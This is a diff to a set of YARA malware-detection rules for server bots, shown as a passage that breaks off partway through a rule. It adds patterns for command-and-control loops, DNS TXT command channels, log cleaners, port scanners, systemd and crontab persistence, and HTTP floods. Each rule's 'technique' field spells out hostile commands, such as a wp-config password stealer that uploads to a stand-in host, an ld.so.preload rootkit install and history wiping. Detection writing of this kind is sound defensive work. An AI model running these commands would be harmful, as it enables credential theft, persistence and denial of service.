@@ -1606,7 +1606,7 @@ rule bot_ld_preload_install : bot
         description = "Script compiling or downloading a shared object and writing it into /etc/ld.so.preload (userland rootkit install)"
         severity = "high"
         technique = "gcc -shared -fPIC -o /usr/lib/x.so x.c -ldl; echo /usr/lib/x.so >> /etc/ld.so.preload | curl URL -o .x.so; printf '%s\\n' $SO | tee -a /etc/ld.so.preload"
-        seen = "none"
+        seen = "none,train7"
     strings:
         $lp = "/etc/ld.so.preload" ascii
         // written: shell redirection or tee, straight or through a variable holding the path;
@@ -1619,7 +1619,8 @@ rule bot_ld_preload_install : bot
         $w3d = "tee -a \"$" ascii
         $w4 = /\/etc\/ld\.so\.preload['"]\s{0,2}(,\s{0,2}['"](a|w|ab|wb|a\+|w\+|>>|>)['"]|,\s{0,2}[^\n]{1,200}FILE_APPEND)|\bopen\s{0,2}\(\s{0,2}[^\n,]{1,40},\s{0,2}['"]>>?['"]\s{0,2},\s{0,2}['"]\/etc\/ld\.so\.preload/
         // the library: compiled here, downloaded, or in a temp or hidden path
-        $so1 = /\b(gcc|cc|clang)\s[^\n]{0,200}-shared\b|\b(gcc|cc|clang)\s[^\n]{0,200}-fPIC\b[^\n]{0,200}\.so\b/
+        // (train7) or an argument list: subprocess.call(['gcc', '-shared', ...])
+        $so1 = /['"](gcc|cc|clang)['"]\s{0,2},[^\n]{0,200}['"]-shared['"]|\b(gcc|cc|clang)\s[^\n]{0,200}-shared\b|\b(gcc|cc|clang)\s[^\n]{0,200}-fPIC\b[^\n]{0,200}\.so\b/
         $so2 = /\b(curl|wget|fetch)\s[^\n]{0,200}\.so(\.[0-9]{1,3})?\b|\b(urlretrieve|urlopen|file_get_contents|getstore|mirror)\s{0,2}\([^\n]{0,200}\.so\b/
         $so3 = /\/\.[\w.-]{1,40}\.so(\.[0-9]{1,3}){0,3}\b|\/(tmp|var\/tmp|dev\/shm)\/[^\s'"]{0,60}\.so\b/
     condition:
@@ -1994,7 +1995,7 @@ rule bot_config_credential_exfil : bot
         description = "Config stealer: sites' wp-config.php/.env/configuration.php searched across accounts, the database passwords pulled out and sent away"
         severity = "high"
         technique = "for f in $(find /home -name wp-config.php); do grep DB_PASSWORD \"$f\"; done > /tmp/.c; curl -F f=@/tmp/.c http://x/up.php  |  glob('/home/*/public_html/wp-config.php') + preg_match DB_PASSWORD + mail('x@y', ...)"
-        seen = "none,train6"
+        seen = "none,train6,train7"
     strings:
         $g1 = /\/home\d?\/\*\/[^\s'"]{0,40}(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
         $g2 = /\bfind\s{1,4}[^\n|;]{0,80}-i?name\s{1,4}['"]?(wp-config\.php|\.env\b|configuration\.php|local\.xml|settings\.php)/
@@ -2002,7 +2003,10 @@ rule bot_config_credential_exfil : bot
         // a loop over the accounts, or the server's account lists, then the config's name
         $g4 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}\/(home\d?|var\/www)\/\*/
         $g5 = /\/etc\/(passwd|userdomains|trueuserdomains|localdomains)\b/
-        $gw = "wp-config.php" ascii
+        // train7: the accounts walked by Perl's File::Find / glob, Python's os.walk / glob
+        $g6 = /\b(find|glob|walk|iglob|scandir)\s{0,2}\([^\n]{0,200}['"]\/(home\d?|var\/www)\/\*?['"]/
+        // (train7: or escaped in a regex, /^(wp-config\.php|...)$/)
+        $gw = /wp-config\\?\.php/
         $c1 = "DB_PASS" ascii
         $c2 = "DB_PASSWORD" ascii
         $c3 = "'password'" ascii
@@ -2012,6 +2016,9 @@ rule bot_config_credential_exfil : bot
         // train6: every DB_ key taken by a regex, or the other secrets of a .env
         $c6 = "DB_\\w" ascii
         $c7 = /\b(MAIL_PASSWORD|AWS_SECRET_ACCESS_KEY|STRIPE_SECRET(_KEY)?|SMTP_PASS(WORD)?)\b/
+        // train7: a pattern naming the DB_ keys and a password on one line
+        // (grep -iE "DB_|pass", /(DB_[A-Z]+|password)/, (?:PASS|USER|DB_))
+        $c8 = /DB_[^\n]{0,40}\b(PASS|pass|password|PASSWORD)|\b(PASS|pass|password)\b[^\n]{0,40}DB_/
         $x1 = "api.telegram.org" ascii
         $x2 = /\bmail\s{0,4}\(\s{0,4}['"][^'"\s@]{1,40}@[\w-]{1,40}\.[\w.]{2,20}['"]/
         $x3 = /\bmail\s{1,4}(-[a-zA-Z]\s{1,4}("[^"\n]{0,80}"|'[^'\n]{0,80}'|\S{1,80})\s{1,4}){1,4}[\w.+-]{1,40}@[\w-]{1,40}\.[\w.]{2,20}/
@@ -2022,9 +2029,11 @@ rule bot_config_credential_exfil : bot
         // round 7: a chat webhook; Python's POST (Request with data, requests.post)
         $x8 = /discord(app)?\.com\/api\/webhooks\//
         $x9 = /\brequests\.post\s{0,2}\(|urllib\.request\.Request\s{0,2}\([^\n]{0,200}\bdata\s{0,2}=|\bRequest\s{0,2}\(\s{0,2}[\w'"][^,\n]{0,120},\s{0,2}(json\.dumps\s{0,2}\(|[a-zA-Z_]\w{0,30}\s{0,2}[,)]|b['"])/
+        // train7: PHP's POST through a stream context
+        $x10 = /\bstream_context_create\s{0,2}\([^\n]{0,120}['"]method['"]\s{0,2}=>\s{0,2}['"]POST['"]/
     condition:
         filesize < 500KB and (not hs_doc_file or hs_script_ext) and
-        ($g1 or $g2 or (any of ($g3, $g4, $g5) and $gw)) and any of ($c*) and any of ($x*)
+        ($g1 or $g2 or (any of ($g3, $g4, $g5, $g6) and $gw)) and any of ($c*) and any of ($x*)
 }
 
 /* A shell IRC bot: bash's /dev/tcp, ncat/nc/telnet or a fifo as the
@@ -2639,7 +2648,7 @@ rule bot_perl_slow_headers_flood : bot
         description = "Perl slow-headers (slowloris-like) flooder: many sockets each holding an unfinished HTTP request, fed a header at a time in a sleeping loop"
         severity = "high"
         technique = "for (1..$n) { $s = IO::Socket::INET->new(..); print $s \"GET /?$r HTTP/1.1\\r\\nHost: $h\\r\\n\"; push @s, $s } while (1) { print $_ \"X-a: \" . int(rand(5000)) . \"\\r\\n\" for @s; sleep 15 }"
-        seen = "heldout5"
+        seen = "heldout5,train7"
     strings:
         // the request line, however the path is spelt between the method and the
         // version: a literal, interpolated, joined ("GET /?" . int(rand(N)) . " HTTP/1.1\r\n"),
@@ -2654,7 +2663,8 @@ rule bot_perl_slow_headers_flood : bot
         $end4 = /\b(print\s{1,4}\{?\$\w{1,30}\}?\s{1,4}|syswrite\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2})"\\r\\n"\s{0,2}[;)]/
         $so = /\bIO::Socket::(INET|IP|SSL)\s{0,2}->\s{0,2}new\s{0,2}\(|\bsocket\s{0,2}\(\s{0,2}(my\s{1,4})?[\$\w]{1,30}\s{0,2},\s{0,2}(PF_INET|AF_INET|2)\b|\bnew\s{1,4}IO::Socket::(INET|IP|SSL)\b/
         // many of them, opened in a counted loop and kept
-        $n1 = /\b1\s{0,2}\.\.\s{0,2}\$\w{1,30}/
+        // (train7) counted from 0 as well: for my $i (0 .. $n - 1)
+        $n1 = /\b[01]\s{0,2}\.\.\s{0,2}\$\w{1,30}/
         // (round 10) a C-style counter (literals: a regex keyed on `for` costs 6 M on PHP),
         // or "until the pool holds N"
         $n2 = "for (my $" ascii
@@ -3105,4 +3115,305 @@ rule bot_php_oneliner_decode_eval : bot obfuscation
         $r = /\bphp[0-9.]{0,4}(\s{1,4}-[a-zA-Z](\s{1,4}[^\s-][^\s]{0,60})?){0,4}\s{1,4}-r\s{0,4}["'][^\n]{0,200}\b(eval|assert|create_function)\s{0,2}\(\s{0,2}(@\s{0,2})?(gzinflate|gzuncompress|gzdecode|str_rot13|base64_decode|hex2bin|strrev|convert_uudecode)\s{0,2}\(/
     condition:
         filesize < 512KB and not hs_doc_file and $r
+}
+
+/* ---- train7 round (branch fix7-bot, seen = "train7"): written from the
+ * techniques of the misses of train7 seeds 2 and 3 and hand-written variants
+ * (tests/fixtures/scripts/{malicious,benign}/t7_*); docs/script-rules.md
+ * "The train7 round". */
+
+/* A shell loop that runs what a fetch returns: `c=$(curl URL)` (or wget, or
+ * a DNS TXT answer) and `sh -c "$c"` / `eval "$c"` a few lines later, in a
+ * loop that sleeps. bot_shell_http_c2_poll also wants the output posted back;
+ * a loader that only runs its orders needs none. An uptime loop looks at a
+ * status code and never runs the answer. */
+rule bot_shell_fetched_command_loop : bot
+{
+    meta:
+        description = "Shell loop running what a fetch returns (sh -c / eval of a curl, wget or DNS answer), sleeping between rounds"
+        severity = "high"
+        technique = "while :; do c=$(curl -fsk URL) && [ -n \"$c\" ] && sh -c \"$c\"; sleep 200; done | until false; do x=`wget -qO- U`; eval \"$x\"; sleep 60; done"
+        seen = "train7"
+    strings:
+        $lp = /\b(while\s{1,4}(true|:|\[\s{1,2}1\s{1,2}\]|\[\s{1,2}1\s{1,2}=\s{1,2}1\s{1,2}\])|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b|\bfor\s{0,2}\(\(\s{0,2};\s{0,2};\s{0,2}\)\)/
+        $g = /(\$\(|`)\s{0,2}(curl|wget|dig|host|nslookup|drill|kdig|fetch|lwp-request|GET)\s/
+        $r = /\b(sh|bash|dash|zsh|ksh)\s{1,4}-c\s{1,4}["']?\$\{?[a-zA-Z_]\w{0,30}|\beval\s{1,4}["']?\$\{?[a-zA-Z_]\w{0,30}|\bsource\s{1,4}<\(\s{0,2}(echo|printf)[^\n)]{0,20}\$\{?[a-zA-Z_]/
+        $sl = /\bsleep\s{1,4}["'$(0-9]/
+    condition:
+        filesize < 256KB and (not hs_doc_file or extension == "txt") and $lp and $sl and
+        for any i in (1..#r) : ( $g in (@r[i] - 400 .. @r[i]) )
+}
+
+/* The HTTP poller without a report: Python, Perl or Ruby code fetching an
+ * order and running it as a shell command (a non-literal argument) within a
+ * few lines, in an endless loop that sleeps. bot_http_c2_poll also wants the
+ * output posted back; bot_shell_fetched_command_loop reads shell, the PHP
+ * layer reads PHP, node.yar Node. A deploy poller runs its own fixed command
+ * (an argument list) when a version changes. Strings as bot_http_c2_poll's. */
+rule bot_script_fetched_command_loop : bot
+{
+    meta:
+        description = "Script loop running a fetched order as a shell command, sleeping between polls (no report needed)"
+        severity = "high"
+        technique = "while True: c = urlopen(U).read().decode(); subprocess.run(c, shell=True); time.sleep(120) | while (1) { my $c = get(U); system($c) if $c; sleep 120 }"
+        seen = "train7"
+    strings:
+        $g = /\b(file_get_contents|fopen)\s{0,2}\(\s{0,2}(\$\w{1,30}|['"]https?:\/\/)|\bcurl_exec\s{0,2}\(|\brequests\.(get|post)\s{0,2}\(|\burlopen\s{0,2}\(|->\s{0,2}(get|request)\s{0,2}\(\s{0,2}["$]|\bLWP::Simple::get\s{0,2}\(|\bget\s{0,2}\(\s{0,2}["']https?:|\b(print|send|sendall|syswrite)\s{0,2}\(?\s{0,2}[$\w.{}]{1,30}\s{0,2},?\s{0,2}b?["']GET \//
+        $r = /\b(shell_exec|system|passthru|popen|proc_open|exec)\s{0,2}\(\s{0,2}\$\w{1,30}(\[|->|\s{0,2}[),.])|\bsubprocess\.(run|call|check_output|check_call|Popen)\s{0,2}\(\s{0,2}[a-zA-Z_][^\n]{0,120}\bshell\s{0,2}=\s{0,2}True|\b(subprocess\.(getoutput|getstatusoutput)|commands\.getoutput|os\.(popen|system))\s{0,2}\(\s{0,2}[a-zA-Z_]|`\$\w{1,30}( 2>&1)?`|\bqx\s{0,2}[\(\{\/|!]\s{0,2}\$\w{1,30}|\bsystem\s{0,2}\(?\s{0,2}\$\w{1,30}\s{0,2}[);]/
+        $sl = /\b(u?sleep|time\.sleep)\s{0,2}[\( ]/
+        $lp = /\bwhile\s{0,2}\(\s{0,2}(1|true|TRUE|True)\s{0,2}\)|\bfor\s{0,2}\(\s{0,2};\s{0,2};\s{0,2}\)|\bwhile\s{1,2}(True|1)\s{0,2}:/
+    condition:
+        filesize < 512KB and not hs_doc_file and $sl and $lp and
+        for any i in (1..#g) : ( for any j in (1..#r) : ( @r[j] > @g[i] and @r[j] < @g[i] + 600 ) )
+}
+
+/* A DNS TXT command channel: a TXT record fetched (dig, host, nslookup,
+ * drill; dns_get_record(DNS_TXT), dnspython, Net::DNS, Node's resolveTxt,
+ * Ruby's Resolv), decoded (base64, hex) and run as a command. An SPF or
+ * DKIM checker reads TXT records and compares or prints them. */
+rule bot_dns_txt_command_channel : bot
+{
+    meta:
+        description = "DNS TXT command channel: a TXT record fetched, decoded and run as a command"
+        severity = "high"
+        technique = "t=`host -t txt cmd.$zone`; system(decode_base64($1)) | c=$(dig +short TXT x.zone | base64 -d); eval \"$c\" | dns_get_record(n, DNS_TXT) + base64_decode + shell_exec | nslookup -type=TXT + b64decode + getoutput"
+        seen = "train7"
+    strings:
+        $q1 = /\b(dig|host|nslookup|drill|kdig|delv)\b[^\n]{0,80}(\b(TXT|txt)\b|-t\s{0,2}(TXT|txt)\b|-(q|query)?type=(TXT|txt)\b)/
+        $q2 = /\bdns_get_record\s{0,2}\([^\n)]{0,120}DNS_TXT\b/
+        $q3 = /\b(resolve|query|search|resolver\.query|resolver\.resolve)\s{0,2}\([^\n)]{0,120}['"](TXT|txt)['"]/
+        $q4 = /\bresolveTxt(Sync)?\s{0,2}\(|Resolv::DNS::Resource::IN::TXT\b|\brdatatype\.TXT\b/
+        // decoded
+        $d = /\bbase64\s{1,4}(-d|--decode|-D)\b|\b(b64decode|decode_base64|base64_decode|decode64|unhexlify|hex2bin|fromhex|unpack)\b|\bxxd\s{1,4}-r|Buffer\.from\s{0,2}\([^\n]{0,60}['"](base64|hex)['"]/
+        // run: a command function on a variable (PHP, Perl, Python, Node, Ruby, shell)
+        $x = /\b(system|exec|shell_exec|passthru|popen|proc_open|execSync|spawnSync)\s{0,2}\(\s{0,2}\$?[a-zA-Z_]\w{0,30}\s{0,2}[),.+]|\bsubprocess\.(getoutput|getstatusoutput|run|call|Popen|check_output)\s{0,2}\(\s{0,2}[a-zA-Z_]\w{0,30}\s{0,2}[,)]|\bos\.(system|popen)\s{0,2}\(\s{0,2}[a-zA-Z_]|`\$[a-zA-Z_]\w{0,30}`|\bqx\s{0,2}[\(\{]\s{0,2}\$|\beval\s{1,4}["']?\$\{?[a-zA-Z_]|\b(sh|bash)\s{1,4}-c\s{1,4}["']?\$\{?[a-zA-Z_]|\|\s{0,4}(ba)?sh\b|%x[({]\s{0,2}#\{|`#\{/
+        // a shell loop: code, even in a .txt
+        $lp = /\b(while\s{1,4}(true|:)|until\s{1,4}false)\s{0,2}(;|\n)\s{0,4}do\b/
+    condition:
+        filesize < 256KB and (not hs_doc_file or hs_node_code or (extension == "txt" and $lp)) and
+        for any of ($q1, $q2, $q3, $q4) : ( for any i in (1..#) : (
+            $d in (@[i] - 200 .. @[i] + 800) and $x in (@[i] - 200 .. @[i] + 1200) ) )
+}
+
+/* A log cleaner: the shell history destroyed (linked to /dev/null,
+ * truncated, HISTFILE off) together with web or system logs rewritten
+ * without the intruder's lines (sed -i '/IP/d', grep -v IP log > t; a Perl
+ * or Python rewrite that drops matching lines) or files' times put back
+ * (touch -r/-d, utime). A log rotation compresses and empties whole logs and
+ * never touches the history. */
+rule bot_log_history_cleaner : bot
+{
+    meta:
+        description = "Log cleaner: shell history destroyed and logs rewritten without chosen lines, or file times forged"
+        severity = "high"
+        technique = "sed -i '/IP/d' ~/logs/*.log; ln -sf /dev/null ~/.bash_history; touch -r index.php *.php | Perl grep {!/IP/} + utime | Python lines filtered + os.utime + os.truncate('.bash_history')"
+        seen = "train7"
+    strings:
+        // the history
+        $h1 = /\bln\s{1,4}-[sfn]{1,3}\s{1,4}\/dev\/null\s{1,4}[^\n]{0,60}_history\b/
+        $h2 = /\bsymlink\s{0,2}\(?\s{0,2}['"]\/dev\/null['"]\s{0,2},\s{0,2}[^\n]{0,60}_history\b/
+        $h3 = /(^|[\n;&|]|\bcat\s{1,4}\/dev\/null|\becho\s{0,4}(-n\s{0,4})?(''|"")?|:)\s{0,4}>\s{0,4}["']?(~|\$HOME|\$\{HOME\}|\/root|\/home\/[\w.-]{1,32})\/\.(bash|zsh|sh|mysql|python|psql)_history\b/
+        $h4 = /\bHISTFILE=\/dev\/null\b|\bunset\s{1,4}HISTFILE\b|\bhistory\s{1,4}-c\b/
+        $h5 = /\b(os\.)?(truncate|unlink|remove|ftruncate)\s{0,2}\([^\n]{0,80}_history\b|['"]\.(bash|zsh|mysql|python)_history['"][^\n]{0,200}(\n[^\n]{0,200}){1,3}\b(os\.)?(truncate|unlink|remove)\s{0,2}\(|\bunlink\s{0,2}\(?\s{0,2}["'][^\n"']{0,40}_history\b|\brm\s{1,4}-[rf]{1,2}\s{1,4}[^\n]{0,40}_history\b/
+        // the logs rewritten without chosen lines
+        $l1 = /\bsed\s{1,4}-i[^\n]{0,20}\s["']?\/[^\n]{1,200}\/d\b[^\n]{0,200}(log|_log)\b/
+        $l2 = /\bgrep\s{1,4}-[a-zA-Z]{0,3}v[a-zA-Z]{0,3}\s[^\n]{0,120}>\s{0,2}["']?\$\{?\w{1,30}/
+        $l3 = /\bgrep\s{0,2}\{\s{0,2}!\s{0,2}\/|\bif\s{1,4}not\s{1,4}[\w.]{1,40}\.(search|match)\s{0,2}\(/
+        $lg = /\/logs?\/|access[-_]logs?\b|\berror_log\b|\/var\/log\/|\b(wtmp|btmp|lastlog|utmp)\b/
+        // or file times put back
+        $t = /\btouch\s{1,4}(-[acm]{1,3}\s{1,4})?-(r|d|t)\s|\btouch\s{1,4}--(reference|date)[= ]|\butime\s{0,2}\(?\s{0,2}\$|\bos\.utime\s{0,2}\(|\btouch\s{0,2}\(\s{0,2}\$\w{1,30}\s{0,2},\s{0,2}\$/
+    condition:
+        filesize < 256KB and not hs_doc_file and any of ($h*) and
+        ((any of ($l*) and $lg) or $t)
+}
+
+/* A port scanner: a connect attempt (IO::Socket with a variable port,
+ * connect_ex, fsockopen, socket_connect, /dev/tcp, Node's net.connect)
+ * inside a walk over many ports (a range to 1024 or more, two bounds from
+ * the command line, a list of service ports) or over the hosts of a network.
+ * A health check connects to its own few services on localhost, a wait-for
+ * script retries one port. */
+rule bot_port_scan_loop : bot hacktool
+{
+    meta:
+        description = "Port scanner: connect attempts over a range or list of ports, or over the hosts of a network"
+        severity = "high"
+        technique = "for my $p ($from .. $to) { IO::Socket::INET->new(PeerAddr => $h, PeerPort => $p) } | for p in PORTS: s.connect_ex((a, p)) over ip_network().hosts() | foreach (range(1, 1024) as $p) fsockopen($h, $p) | for i in $(seq 1 254); do for p in 22 80 443; do echo >/dev/tcp/$b.$i/$p"
+        seen = "train7"
+    strings:
+        $c1 = /\bPeerPort\s{0,4}=>\s{0,4}\$\w{1,30}|\bIO::Socket::INET\s{0,2}->\s{0,2}new\s{0,2}\(\s{0,2}["']?\$\w{1,30}:\$\w{1,30}/
+        $c2 = /\.connect(_ex)?\s{0,2}\(\s{0,2}\(\s{0,2}[^,\n]{1,40},\s{0,2}(int\s{0,2}\()?[a-z_]\w{0,20}\)?\s{0,2}\)\s{0,2}\)/
+        $c3 = /\b(fsockopen|stream_socket_client|socket_connect)\s{0,2}\([^\n]{0,80}\$\w{1,30}\s{0,2},\s{0,2}(\(int\)\s{0,2})?\$\w{1,30}/
+        $c4 = /\/dev\/tcp\/[^\n\/ ]{0,40}\$\{?\w{1,20}\}?[^\n\/ ]{0,10}\/\$\{?\w{1,20}/
+        $c5 = /\bnet\.(connect|createConnection)\s{0,2}\(\s{0,2}(\{\s{0,2}port\s{0,2}:\s{0,2})?[a-z_]\w{0,20}\s{0,2}[,}]|\bnew\s{1,4}net\.Socket\s{0,2}\(\s{0,2}\)\s{0,2}\.connect\s{0,2}\(\s{0,2}[a-z_]/
+        $c6 = /\bTCPSocket\s{0,2}\.\s{0,2}(new|open)\s{0,2}\(\s{0,2}[a-z_@]\w{0,20}\s{0,2},\s{0,2}[a-z_@]\w{0,20}\s{0,2}\)|\bSocket\s{0,2}\.\s{0,2}tcp\s{0,2}\(\s{0,2}[a-z_@]\w{0,20}\s{0,2},\s{0,2}[a-z_@]\w{0,20}/
+        // many ports or many hosts
+        // (numbers only: range(1, n) is every retry loop)
+        $m1 = /\brange\s{0,2}\(\s{0,2}[0-9]{1,2}\s{0,2},\s{0,2}(102[45]|[2-9][0-9]{3}|[0-9]{5})\s{0,2}\)/
+        $m2 = /\(\s{0,2}\$\w{1,30}\s{0,2}\.\.\s{0,2}\$\w{1,30}\s{0,2}\)|\(\s{0,2}1\s{0,2}\.\.\s{0,2}(1024|[0-9]{4,5})\s{0,2}\)/
+        $m3 = /\bseq\s{1,4}[0-9]{1,3}\s{1,4}(25[45]|1024|[0-9]{4,5})\b|\{1\.\.(25[45]|1024|[0-9]{4,5})\}/
+        $m4 = /[\[(,]\s{0,2}(21|22)\s{0,2},\s{0,2}(22|23|25|80)\s{0,2},\s{0,2}[0-9]{2,5}\s{0,2},\s{0,2}[0-9]{2,5}\s{0,2},\s{0,2}[0-9]{2,5}/
+        $m5 = /\bfor\s{1,4}\w{1,20}\s{1,4}in\s{1,4}([0-9]{2,5}\s{1,4}){3,}[0-9]{2,5}\s{0,4}(;|\n)/
+        $m6 = /\bip_network\s{0,2}\(|\.hosts\s{0,2}\(\s{0,2}\)|\bNetAddr::IP\b|\bfor\s{0,2}\(\s{0,2}(let|var)\s{1,4}\w{1,10}\s{0,2}=\s{0,2}[0-9]{1,2}\s{0,2};\s{0,2}\w{1,10}\s{0,2}<=?\s{0,2}(1024|[0-9]{4,5}|25[45])\b/
+        $m7 = /\bfor\s{0,2}\(\s{0,2}\$\w{1,10}\s{0,2}=\s{0,2}[0-9]{1,2}\s{0,2};\s{0,2}\$\w{1,10}\s{0,2}<=?\s{0,2}(1024|[0-9]{4,5}|25[45])\b/
+    condition:
+        filesize < 256KB and not hs_doc_file and
+        for any of ($m*) : ( for any i in (1..#) : (
+            $c1 in (@[i] - 300 .. @[i] + 600) or $c2 in (@[i] - 300 .. @[i] + 600) or
+            $c3 in (@[i] - 300 .. @[i] + 600) or $c4 in (@[i] - 300 .. @[i] + 600) or
+            $c5 in (@[i] - 300 .. @[i] + 600) or $c6 in (@[i] - 300 .. @[i] + 600) ) )
+}
+
+/* A systemd user unit (or system unit) whose ExecStart runs a program
+ * hidden inside a dot directory of the home (%h/.cache/.x.py,
+ * ~/.local/share/.d/x, a dot name below ~/tmp) or in a temp dir, kept
+ * running (Restart=always). An application's unit runs %h/app/venv/bin/...
+ * or ~/.local/bin/tool: a dot directory at the top of the home is where
+ * tools live, a dot name below it is hiding. */
+rule bot_systemd_unit_hidden_exec : bot
+{
+    meta:
+        description = "systemd unit running a program hidden in a nested dot path of the home or in a temp dir, restarted forever"
+        severity = "high"
+        technique = "[Service] ExecStart=%h/.local/share/.uudh/x | ExecStart=/usr/bin/python3 %h/.cache/.x.py | ExecStart=/dev/shm/.k; Restart=always"
+        seen = "train7"
+    strings:
+        $sv = "[Service]" ascii
+        $ex = /(^|\n)[ \t]{0,4}ExecStart(Pre|Post)?[ \t]{0,2}=[ \t]{0,2}[-@+!:]{0,2}[^\n]{0,120}((%h|~|\$HOME|\/home\/[\w.-]{1,32}|\/root)\/[\w.-]{1,40}\/([\w-][\w.-]{0,40}\/){0,3}\.[\w-]|(%h|~|\$HOME|\/home\/[\w.-]{1,32}|\/root)\/\.[\w-]{1,30}\.(py|pl|sh|php|js|rb)\b|(\/tmp|\/var\/tmp|\/dev\/shm)\/)/
+        $rs = /(^|\n)[ \t]{0,4}Restart[ \t]{0,2}=[ \t]{0,2}(always|on-failure|on-abnormal)/
+        // an application's virtualenv is a dot directory below the home too
+        $venv = /(^|\n)[ \t]{0,4}ExecStart[^\n]{0,200}\/\.(venv|virtualenv|env|tox|bundle|nvm|pyenv|rbenv)\//
+    condition:
+        filesize < 64KB and $sv and $ex and $rs and not $venv
+}
+
+/* A script fetching a systemd unit from the network straight into the
+ * user's (or the system's) unit directory and enabling it, often with
+ * lingering so it runs without a login. An installer writes its unit from
+ * its own text or a package. */
+rule bot_systemd_unit_fetch_enable : bot
+{
+    meta:
+        description = "Script downloading a systemd unit into a unit directory and enabling it (user persistence)"
+        severity = "high"
+        technique = "curl -fsSL URL -o ~/.config/systemd/user/x.service; systemctl --user enable --now x.service; loginctl enable-linger"
+        seen = "train7"
+    strings:
+        $f = /\b(curl|wget|fetch)\s[^\n]{0,200}(-o|-O|--output(-document)?[= ])\s{0,4}["']?[^\s"']{0,100}\.(service|timer)\b|\b(urlretrieve|getstore|mirror|copy)\s{0,2}\([^\n]{0,200}systemd\/(user|system)\//
+        // a user unit (an admin installing a system service from a vendor is not that)
+        $e = /\bsystemctl\s{1,4}--user\s{1,4}(enable|start|daemon-reload)\b|\bloginctl\s{1,4}enable-linger\b/
+    condition:
+        filesize < 256KB and not hs_doc_file and $f and $e
+}
+
+/* A crontab line watching over a hidden program: started again when a
+ * liveness test fails (kill -0 $(cat pid) ||, pgrep -f x ||, pidof x ||),
+ * at boot, or fetched when missing ([ -x P ] || curl -o P; chmod +x P),
+ * where the program sits in a nested dot path of the home ($HOME/.cache/.d/x,
+ * ~/tmp/.8772/.u). A backup job runs ~/bin/backup.sh; certbot renews from
+ * ~/.local/bin. bot_crontab_file_payload reads a hidden file started at the
+ * line's start. */
+rule bot_crontab_watchdog_hidden : bot
+{
+    meta:
+        description = "Crontab line restarting or re-fetching a program hidden in a nested dot path of the home"
+        severity = "high"
+        technique = "* * * * * kill -0 $(cat /tmp/p) || $HOME/.local/share/.q/.u & | */5 * * * * pgrep -f x || $HOME/.cache/.d/x | [ -x P ] || (curl -o P URL; chmod +x P); pidof x || P"
+        seen = "train7"
+    strings:
+        // the hidden program, a dot name nested inside the home (keyed on the home's spelling)
+        $hid1 = /\$(HOME|\{HOME\})\/[\w.-]{1,40}\/([\w-][\w.-]{0,40}\/){0,3}\.[\w-][^\s;&|>'")]{0,60}([ \t;&|>'")]|\n|$)/
+        $hid2 = /[\s;&|('"]~\/[\w.-]{1,40}\/([\w-][\w.-]{0,40}\/){0,3}\.[\w-][^\s;&|>'")]{0,60}([ \t;&|>'")]|\n|$)/
+        $hid3 = /\/(home\/[\w.-]{1,32}|root)\/[\w.-]{1,40}\/([\w-][\w.-]{0,40}\/){0,3}\.[\w-][^\s;&|>'")]{0,60}([ \t;&|>'")]|\n|$)/
+        $fx = /(^|\n)[ \t]{0,4}(@(reboot|hourly|daily)|[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12}[ \t]{1,4}[0-9a-z*\/,-]{1,12})[ \t]{1,8}[^\n]{0,200}\b(curl|wget)\s[^\n]{0,200}\s(-o|-O)\s{0,4}["']?[^\s;&|"']{1,100}[^\n]{0,40}\bchmod\s{1,4}(\+x|[0-7]?[1357][0-7]{2})\s[^\n]{0,200}(\|\||&&|;)\s{0,4}(nohup\s{1,4})?["']?(\$HOME|\$\{HOME\}|~|\/)/
+        // an application's virtualenv or version manager below the home
+        $venv = /\/\.(venv|virtualenv|env|tox|bundle|nvm|pyenv|rbenv)\//
+        $guard = /\b(kill\s{1,4}-0|pgrep|pidof)\b[^\n]{0,120}\|\||\[\s{1,2}-[xfe]\s[^\n\]]{1,100}\]\s{0,2}\|\||@reboot/
+    condition:
+        filesize < 16KB and hs_crontab_text and not hs_doc_file and
+        ((any of ($hid*) and $guard and not $venv) or $fx)
+}
+
+/* A Node HTTP flood: a request function that fires again when its answer or
+ * error comes (`res => { res.resume(); fire(); }`, `req.on('error', fire)`),
+ * with a random cache-buster in the path, started many times over by a
+ * counted loop. A load test (autocannon, a fixed number of timed requests)
+ * measures and stops. */
+rule bot_node_http_flood : bot
+{
+    meta:
+        description = "Node.js HTTP flood: requests with a random cache-buster re-fired on every answer and error, started many times"
+        severity = "high"
+        technique = "function fire(){ http.request({path: p + '?' + Math.random()}, r => { r.resume(); fire(); }).on('error', fire).end(); } for (i = 0; i < conc; i++) fire();"
+        seen = "train7"
+    strings:
+        $rq = /\bhttps?\.(request|get)\s{0,2}\(/
+        $rnd = /(['"`?&=]\s{0,2}\+\s{0,2}|\$\{)\s{0,2}(Math\.random\s{0,2}\(|Date\.now\s{0,2}\(|crypto\.randomBytes\s{0,2}\()/
+        $re1 = /\.on\s{0,2}\(\s{0,2}['"]error['"]\s{0,2},\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\)/
+        $re2 = /\.resume\s{0,2}\(\s{0,2}\)\s{0,2};\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\(\s{0,2}\)/
+        $re3 = /\bset(Interval|Immediate)\s{0,2}\(\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}[,)]/
+        $n = /\bfor\s{0,2}\(\s{0,2}(let|var|const)?\s{0,2}\w{1,10}\s{0,2}=\s{0,2}0\s{0,2};\s{0,2}\w{1,10}\s{0,2}<\s{0,2}[^;\n]{1,40};[^)\n]{0,20}\)\s{0,2}\{?\s{0,2}[a-zA-Z_$][\w$]{0,30}\s{0,2}\(\s{0,2}\)/
+    condition:
+        filesize < 256KB and hs_node_code and $rq and $rnd and any of ($re*) and $n
+}
+
+/* A Node HTTP CONNECT proxy that announces itself: CONNECT parsed, "200
+ * Connection established" written, both sockets piped, and the proxy's port
+ * or host name reported to a server. A development proxy forwards to its
+ * own backend and reports nothing. */
+rule bot_node_connect_proxy_report : bot
+{
+    meta:
+        description = "Node.js HTTP CONNECT proxy that reports its port/host to a remote server (proxy bot)"
+        severity = "high"
